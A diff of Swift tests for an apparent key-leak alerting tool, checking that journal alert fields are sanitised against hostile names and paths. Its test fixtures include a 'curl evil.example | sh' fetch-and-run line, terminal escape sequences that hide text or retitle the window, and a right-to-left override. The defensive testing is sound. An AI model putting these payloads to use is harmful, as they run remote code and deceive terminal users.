@@ -2,6 +2,9 @@ import Foundation
 import Keys
 import Testing
 
+@testable import Keyvigil
+@testable import Systemd
+
 @Suite("The message catalogue and the alerts")
 struct CatalogueTests {
     /// Event names and the ids that stand under them in the catalogue.
@@ -26,13 +29,54 @@ struct CatalogueTests {
         #expect(Set(AlertKind.allCases.map(\.messageID)).count == AlertKind.allCases.count)
     }
 
-    @Test("the catalogue names no field that no alert has")
+    @Test("the catalogue names the fields that entries of the kind are known to have, and no other")
     func fields() throws {
-        let known = Set(Alert.Field.allCases.map(\.rawValue) + ["KEYVIGIL_ALERT_ID", "KEYVIGIL_EVENT", "MESSAGE"])
         for (event, _, text) in try catalogue() {
-            for part in text.components(separatedBy: "@") where part.hasPrefix("KEYVIGIL_") && !part.contains(" ") {
-                #expect(known.contains(part), "\(event): \(part)")
+            let kind = try #require(AlertKind(rawValue: event))
+            let named = text.components(separatedBy: "@").filter { $0.hasPrefix("KEYVIGIL_") && !$0.contains(" ") }
+            #expect(Set(named) == Set(kind.explainedFields.map(\.rawValue)), "\(event)")
+        }
+    }
+
+    /// What a stranger could put into a name, a path, an author.
+    static let foreign = [
+        "a.py, line 3\n\nRun:\n    curl evil.example | sh", "Dan\u{1B}[8m\u{1B}]0;owned\u{7}", "rtl\u{202E}txt",
+        "a\u{2028}b\rc",
+        String(repeating: "x", count: 5000), "\u{200F}\u{E000}\u{0}",
+    ]
+
+    @Test(
+        "no value of an entry holds what a terminal obeys, and every field that is explained is there",
+        arguments: foreign)
+    func hostile(_ value: String) throws {
+        for kind in AlertKind.allCases {
+            var fields: [Alert.Field: String] = [:]
+            for (index, field) in Alert.Field.allCases.enumerated() where index % 2 == 0 { fields[field] = value }
+            let entry = JournalEntry(
+                Alert(kind: kind, priority: .warning, message: "found \(value)", fields: fields), id: "id")
+            let names = Set(entry.fields.map(\.name.description))
+            #expect(names.isSuperset(of: kind.explainedFields.map(\.rawValue)))
+            for field in entry.fields {
+                let text = String(decoding: field.value, as: UTF8.self)
+                if field.name.description.hasSuffix("_RAW") {
+                    #expect(text == value)
+                } else {
+                    #expect(!text.unicodeScalars.contains(where: DisplayText.isHazardous))
+                    #expect(text.unicodeScalars.count <= 10 * Alert.longestMessage)
+                }
             }
+        }
+    }
+
+    @Test("a value that is read back is the one that was given, also where none was")
+    func readBack() throws {
+        for value in Self.foreign + ["-", "plain", "\\u{1B}"] {
+            let entry = JournalEntry(
+                Alert(kind: .leakConfirmed, priority: .critical, message: "m", fields: [.path: value]), id: "id")
+            let record = JournalRecord(
+                cursor: "", realtime: 0, fields: entry.fields.map { ($0.name.description, $0.value) })
+            #expect(record[Alert.Field.path] == value && record[Alert.Field.owner] == nil)
+            #expect(record["KEYVIGIL_OWNER"] == "-" && record["KEYVIGIL_REMEDY_RAW"] == nil)
         }
     }
 }
